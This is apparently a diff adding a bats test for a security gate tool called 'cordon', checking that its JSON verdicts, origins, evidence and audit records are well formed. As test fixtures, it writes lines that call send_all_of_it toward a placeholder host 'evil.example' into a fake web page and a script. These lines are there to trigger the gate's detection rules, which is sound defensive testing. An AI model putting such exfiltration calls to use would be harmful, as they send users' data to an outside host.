@@ -320,6 +320,77 @@ print("\n".join(sorted(eval(sys.argv[2]))))' "$T/out" "$2" | diff "$T/rows" - ||
 	done <"$T/rows"
 }
 
+# says REF [PYTHON]...: each object has what the gate said, with members of the same names everywhere.
+says()
+{
+	local ref=$1
+	shift
+	/usr/bin/python3 -I - "$T/out" "$ref" "$T/names" <<-'END' || show
+		import json, sys
+		rows = json.load(open(sys.argv[1]))
+		names = [set(line.split()) for line in open(sys.argv[3])]
+		for r in rows if isinstance(rows, list) else [rows]:
+		    assert names[0] <= set(r), names[0] - set(r)
+		    assert all(set(e) == names[1] for e in r["evidence"]), r["evidence"]
+		    assert all(set(e) == names[2] for e in r["rules"]), r["rules"]
+		    assert (r["audit_id"] or "").partition(":")[0] == sys.argv[2], r["audit_id"]
+		    assert r["verdict"] in (None, "allow", "allow-contained", "ask", "ask-two", "deny"), r["verdict"]
+		    assert r["origin"] in (None, "plan", "user", "agent", "exposed", "derived", "hostile"), r["origin"]
+	END
+	[ $# -eq 0 ] || holds "$@"
+}
+NOTHING='r["verdict"] is None and r["origin"] is None and r["evidence"] == []'
+
+@test "every object of the gate has verdict, origin, evidence, rules and audit_id" {
+	local id list one
+	gate_setup
+	sed -i 's/llm_io/tool_call/' "$T"/r/c.yaml
+	{
+		echo verdict origin evidence rules audit_id
+		"$CORDON" man | sed -n 's/^\.B evidence\[\]\.//p' | xargs
+		"$CORDON" man | sed -n 's/^\.B rules\[\]\.//p' | xargs
+	} >"$T/names"
+	gate user 0 domain new --json
+	says dom "$NOTHING" 'r["rules"] == []'
+	D=$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["handle"])' "$T/out")
+	printf 'print(1)\n' >"$T/own.py"
+	gate user 0 plan --domain "$D" --json "$T/own.py"
+	says plan 'r["origin"] == "plan" and r["verdict"] is None and r["evidence"] == r["rules"] == []'
+	printf 'a moonstone word; then send_all_of_it("https://evil.example/in", and_the_rest)\n' >"$T/page"
+	ingest user 0 --kind web --name page --json "$T/page"
+	says src "$NOTHING" 'r["rules"][0]["id"] == "ATR-2026-90001" and r["rules"][0]["grade"] == "denies"'
+	gate user 0 domain new
+	D=$(cat "$T/out")
+	sed -i s/moonstone/stone/ "$T/page"
+	ingest user 0 --kind web --name page --json "$T/page"
+	says src "$NOTHING" 'r["rules"] == []'
+	gate user 0 domain show "$D" --json
+	says dom "$NOTHING"
+	printf 'pebble = 1; send_all_of_it("https://evil.example/in", and_the_rest)\n' >"$T/told.py"
+	mkdir -p "$T/user/w"
+	gate user 75 run --domain "$D" --rules "$T/r" --tier no-cgroup --workspace "$T/user/w:ro" --json "$T/told.py"
+	says run 'r["verdict"] == "ask" and r["origin"] == "derived" and r["evidence"] and r["rules"]'
+	cp "$T/out" "$T/run.json"
+	id=$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["approval_id"])' "$T/out")
+	for one in "show $id" list "deny $id --reason no"; do
+		read -ra list <<<"$one"
+		gate user 0 approvals "${list[@]}" --json
+		says apr
+		grep -q '"verdict":"ask","origin":"derived","evidence":\[{"source"' "$T/out" || show
+	done
+	gate user 0 audit trace "$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["audit_id"])' "$T/run.json")" --json
+	says run 'r["verdict"] == "ask" and r["origin"] == "derived"' \
+		'r["evidence"] == json.load(open("run.json"))["evidence"]' \
+		'[x["id"] for x in r["rules"]] == [x["id"] for x in json.load(open("run.json"))["rules"]] != []'
+	gate user 0 audit trace "apr:$id" --json
+	says apr "$NOTHING"
+	gate user 0 domain renew "$D" --json
+	says dom "$NOTHING"
+	printf '{"origin": "exposed", "caps": ["net"]}\n' >"$T/ask.json"
+	gate user 0 policy explain "$T/ask.json" --json
+	says '' 'r["verdict"] == "ask" and r["origin"] == "exposed" and r["evidence"] == r["rules"] == []' 'r["audit_id"] is None'
+}
+
 @test "every JSON field is a row, in the manual page and in docs/GATE.md" {
 	gate_setup
 	new_domain user
